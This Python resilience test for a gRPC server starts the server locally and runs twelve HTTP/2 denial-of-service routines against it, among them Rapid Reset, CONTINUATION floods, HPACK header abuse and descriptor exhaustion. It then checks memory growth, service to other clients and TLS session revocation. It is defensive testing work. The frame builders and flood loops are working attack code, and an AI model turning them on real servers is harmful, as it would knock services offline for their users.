#!/usr/bin/env python3
"""What a caller with a valid certificate can do to the server below gRPC: frames of HTTP/2 that no client sends.

usage: http2_attacks_test.py BIN_DIR SOURCE_DIR

Each attack is a connection of its own over mutual TLS 1.3. The server must not end, must not grow beyond what is said
here, and must answer somebody else at once afterwards. Among them are the known defects of the packaged gRPC
(CVE-2023-1428, CVE-2023-33953, CVE-2023-44487, CVE-2023-4785) and CONTINUATION floods (CVE-2024-27316).
"""
import contextlib
import os
import pathlib
import re
import resource
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
METHOD = b"/ieum.v1.ProjectService/ListProjects"
# Beyond what the server needs for an attack on one connection, in MiB.
MOST_GROWTH_MIB = 192
# A server built with AddressSanitizer would keep 256 MiB of what it has given back.
FREED_AT_ONCE = {**os.environ, "ASAN_OPTIONS": ":".join(filter(None, (os.environ.get("ASAN_OPTIONS"), "quarantine_size_mb=8")))}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first=0):
    """RFC 7541, section 5.1."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out = bytearray([first | most])
    value -= most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value, indexed=False):
    first = b"\x40" if indexed else b"\x00"
    return first + integer(len(name), 7) + name + integer(len(value), 7) + value


def call_headers(*more):
    block = b"".join(literal(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"https"), (b":path", METHOD), (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"), (b"grpc-timeout", b"10S")) if name not in dict(more))
    return block + b"".join(literal(name, value) for name, value in more)


class Ended(Exception):
    """The server has closed the connection."""


class Connection:
    """HTTP/2 over mutual TLS, from the client preface on; what the server says is read and dropped."""

    def __init__(self, port, certs, name, context=None, session=None, start=True):
        if context is None:
            context = ssl.create_default_context(cafile=certs / "ca.pem")
            context.load_cert_chain(certs / f"{name}.pem", certs / f"{name}.key")
            context.minimum_version = ssl.TLSVersion.TLSv1_3
            context.set_alpn_protocols(["h2"])
        self.context = context
        raw = socket.create_connection(("127.0.0.1", port), timeout=20)
        self.socket = context.wrap_socket(raw, server_hostname="localhost", session=session)
        self.socket.settimeout(0.0)
        self.received = b""
        self.ended = False
        if start:
            self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data, patience=10.0):
        """Raises Ended when the server takes no more."""
        view = memoryview(data)
        end = time.monotonic() + patience
        while view:
            self.drain()
            try:
                view = view[self.socket.send(view):]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                if time.monotonic() > end:
                    raise Ended from None
                time.sleep(0.001)
            except OSError:
                self.ended = True
            if self.ended:
                raise Ended

    def drain(self):
        try:
            while True:
                data = self.socket.recv(65536)
                if not data:
                    self.ended = True
                    return
                self.received = (self.received + data)[-(1 << 20):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self.ended = True

    def wait_end(self, seconds):
        """Whether the server closes the connection within this time."""
        end = time.monotonic() + seconds
        while not self.ended and time.monotonic() < end:
            self.drain()
            time.sleep(0.01)
        return self.ended

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


class Server:
    def __init__(self, bin_dir, source, folder):
        self.bin, self.certs = bin_dir, folder / "certs"
        subprocess.run([source / "deploy/make-dev-ca.sh", self.certs, "server=matcher@linkage-center",
                        "operator=operator@linkage-center", "mallory=holder@hospital-m", "alice=holder@hospital-a"],
                       check=True)
        subprocess.run([bin_dir / "ieumctl", "keystore", "init", "--keystore", folder / "keystore", "--passphrase-file",
                        self.certs / "keystore.passphrase"], check=True, stdout=subprocess.DEVNULL)
        self.deny_list, self.log = folder / "denied", folder / "log"
        self.deny_list.touch()
        port_file = folder / "port"
        with open(self.log, "wb") as log:
            self.process = subprocess.Popen(
                [bin_dir / "ieum-server", "--role", "matcher", "--listen", "127.0.0.1:0", "--port-file", port_file,
                 "--data-dir", folder / "data", "--tls-ca", self.certs / "ca.pem", "--tls-cert",
                 self.certs / "server.pem", "--tls-key", self.certs / "server.key", "--keystore", folder / "keystore",
                 "--keystore-passphrase-file", self.certs / "keystore.passphrase", "--deny-list", self.deny_list],
                stdout=log, stderr=log, env=FREED_AT_ONCE, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024)))
        while not (port_file.exists() and port_file.read_text().strip()):
            assert self.process.poll() is None, self.log.read_text()
            time.sleep(0.02)
        self.port = int(port_file.read_text())

    def memory_mib(self):
        status = pathlib.Path(f"/proc/{self.process.pid}/status").read_text()
        return next(int(line.split()[1]) for line in status.splitlines() if line.startswith("VmRSS:")) / 1024

    def list_projects(self, name):
        return subprocess.run(
            [self.bin / "ieumctl", "project", "list", "--server", f"127.0.0.1:{self.port}", "--ca",
             self.certs / "ca.pem", "--cert", self.certs / f"{name}.pem", "--key", self.certs / f"{name}.key"],
            capture_output=True, text=True, timeout=30, check=False)

    def connect(self, **options):
        return Connection(self.port, self.certs, "mallory", **options)


def opened(server):
    connection = server.connect()
    connection.send(frame(SETTINGS, ACK, 0))
    return connection


def ping_flood(server):
    connection = opened(server)
    with contextlib.suppress(Ended):
        for _ in range(200):
            connection.send(frame(PING, 0, 0, bytes(8)) * 50)
    assert connection.wait_end(5), "10,000 pings on one connection"


def settings_flood(server):
    connection = opened(server)
    with contextlib.suppress(Ended):
        for value in range(200):
            connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1000 + value)) * 50)


def rapid_reset(server):
    connection = opened(server)
    block = call_headers()
    with contextlib.suppress(Ended):
        for stream in range(1, 40001, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, block) +
                            frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def header_string_without_end(server):
    """A header that says it has a gibibyte, 6 MiB of which come: gRPC copies all that came with every frame."""
    connection = opened(server)
    head = call_headers() + b"\x00" + integer(1, 7) + b"x" + integer(1 << 30, 7)
    with contextlib.suppress(Ended):
        connection.send(frame(HEADERS, 0, 1, head))
        for _ in range(6 * 64):
            connection.send(frame(CONTINUATION, 0, 1, b"x" * 16384))


def continuation_without_end(server):
    connection = opened(server)
    with contextlib.suppress(Ended):
        connection.send(frame(HEADERS, 0, 1, call_headers()))
        for i in range(64 * 64):
            connection.send(frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"y" * 16000)))


def continuation_of_nothing(server):
    connection = opened(server)
    with contextlib.suppress(Ended):
        connection.send(frame(HEADERS, 0, 1, call_headers()))
        for _ in range(2000):
            connection.send(frame(CONTINUATION, 0, 1) * 50)


def table_churn(server):
    """Sizes of the header table up and down, with entries in between."""
    connection = opened(server)
    block = b"".join(integer(size, 5, 0x20) for _ in range(500) for size in (0, 4096))
    block += b"".join(literal(b"n%d" % i, b"v" * 30, indexed=True) for i in range(100))
    with contextlib.suppress(Ended):
        for stream in range(1, 2001, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, block + call_headers()))
            connection.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def long_values_of_known_headers(server):
    """Headers that gRPC reads itself, longer than all metadata may be, one connection for each."""
    names = (b"te", b"content-type", b"grpc-timeout", b"grpc-encoding", b"grpc-accept-encoding", b"user-agent", b"host",
             b"grpc-status", b"grpc-message", b"grpc-trace-bin", b"grpc-tags-bin", b"grpc-server-stats-bin", b"lb-token",
             b"x-endpoint-load-metrics-bin", b"grpc-previous-rpc-attempts", b"grpc-retry-pushback-ms", b":path",
             b":authority", b":scheme", b":method", b":status", b"endpoint-load-metrics-bin", b"x-long-bin", b"x-long")
    for name in names:
        connection = opened(server)
        block = call_headers((name, b"A" * 12000))
        with contextlib.suppress(Ended):
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
            connection.wait_end(0.05)
        connection.close()
        assert server.process.poll() is None, name


def frames_out_of_place(server):
    cases = (frame(HEADERS, END_HEADERS, 0, call_headers()), frame(DATA, 0, 1, b"x"), frame(DATA, 0, 0, b"x"),
             frame(CONTINUATION, END_HEADERS, 1, call_headers()), frame(RST_STREAM, 0, 0, bytes(4)),
             frame(WINDOW_UPDATE, 0, 0, bytes(4)), frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2,
             frame(SETTINGS, 0, 0, b"x"), frame(SETTINGS, 0, 0, struct.pack(">HI", 5, 1)), frame(PING, 0, 0, b"x"),
             frame(PRIORITY, 0, 3, struct.pack(">IB", 3, 1)), frame(99, 255, 7, b"x" * 100),
             frame(HEADERS, END_HEADERS, 2, call_headers()), frame(HEADERS, END_HEADERS, 1, b"\xff" * 100),
             frame(HEADERS, END_HEADERS | 8, 1, b"\xff" + call_headers()), frame(GOAWAY, 0, 0, bytes(8)),
             b"\xff\xff\xff" + bytes(6), os.urandom(4096))
    for case in cases:
        connection = opened(server)
        with contextlib.suppress(Ended):
            connection.send(case)
            connection.wait_end(0.05)
        connection.close()


def half_a_preface(server):
    connections = [server.connect(start=False) for _ in range(50)]
    for connection in connections:
        with contextlib.suppress(Ended):
            connection.send(PREFACE[:10])
    return connections


def empty_messages(server):
    """Data frames without data on a call that never ends."""
    connection = opened(server)
    with contextlib.suppress(Ended):
        connection.send(frame(HEADERS, END_HEADERS, 1, call_headers()))
        for _ in range(2000):
            connection.send(frame(DATA, 0, 1) * 50)


def more_connections_than_descriptors(server):
    """The server may have 1,024 descriptors; 1,200 connections come and stay for a while."""
    sockets = []
    with contextlib.suppress(OSError):
        for _ in range(1200):
            sockets.append(socket.create_connection(("127.0.0.1", server.port), timeout=2))
    time.sleep(0.5)
    for connection in sockets:
        connection.close()


ATTACKS = (ping_flood, settings_flood, rapid_reset, header_string_without_end, continuation_without_end,
           continuation_of_nothing, table_churn, long_values_of_known_headers, frames_out_of_place, half_a_preface,
           empty_messages, more_connections_than_descriptors)


def check_attack(server, attack):
    before = server.memory_mib()
    started = time.monotonic()
    attack(server)
    seconds = time.monotonic() - started
    growth = server.memory_mib() - before
    assert server.process.poll() is None, f"{attack.__name__}: the server has ended\n{server.log.read_text()[-3000:]}"
    asked = time.monotonic()
    end = asked + 60  # sanitizers and a busy machine take their time
    while (answer := server.list_projects("operator")).returncode != 0 and time.monotonic() < end:
        time.sleep(0.1)
    assert answer.returncode == 0, f"{attack.__name__}: nobody is served afterwards: {answer.stderr}"
    print(f"{attack.__name__:34} {seconds:6.2f} s  {growth:+7.1f} MiB  answered after {time.monotonic() - asked:.2f} s",
          flush=True)
    assert growth < MOST_GROWTH_MIB, f"{attack.__name__}: the server grew by {growth:.0f} MiB"


def status_of_a_call(connection):
    """The grpc-status of a call over this connection; gRPC writes its text as it is."""
    connection.send(frame(HEADERS, END_HEADERS, 1, call_headers()) + frame(DATA, END_STREAM, 1, bytes(5)))
    end = time.monotonic() + 10
    while time.monotonic() < end:
        connection.drain()
        found = re.search(rb"grpc-status[\x01\x02](\d+)", connection.received)
        if found:
            return int(found.group(1))
        time.sleep(0.01)
    raise AssertionError("no answer to a call")


def check_resumption(server):
    """A session that was begun with a certificate does not outlive its denial."""
    first = opened(server)
    assert status_of_a_call(first) == 0
    session = first.socket.session
    assert server.list_projects("mallory").returncode == 0
    subprocess.run([server.bin / "ieumctl", "deny", "add", "--file", server.deny_list, "--certificate",
                    server.certs / "mallory.pem", "--note", "test"], check=True, stdout=subprocess.DEVNULL)
    end = time.monotonic() + 20
    while server.list_projects("mallory").returncode == 0:
        assert time.monotonic() < end, "a denied certificate is still let in"
        time.sleep(0.2)
    resumed = Connection(server.port, server.certs, "mallory", context=first.context, session=session)
    status = status_of_a_call(resumed)
    assert status in (7, 16), f"a resumed session of a denied certificate is answered with {status}"
    print(f"a session {'resumed' if resumed.socket.session_reused else 'that is not resumed'} by a certificate denied "
          f"since: status {status}", flush=True)
    first.close()
    resumed.close()


def main():
    bin_dir, source = (pathlib.Path(argument).resolve() for argument in sys.argv[1:3])
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    with tempfile.TemporaryDirectory(prefix="ieum-test-") as name:
        server = Server(bin_dir, source, pathlib.Path(name))
        try:
            for attack in ATTACKS:
                check_attack(server, attack)
            check_resumption(server)
        finally:
            server.process.send_signal(signal.SIGTERM)
            code = server.process.wait(timeout=30)
        assert code == 0, f"the server ended with {code}\n{server.log.read_text()[-3000:]}"


if __name__ == "__main__":
    main()
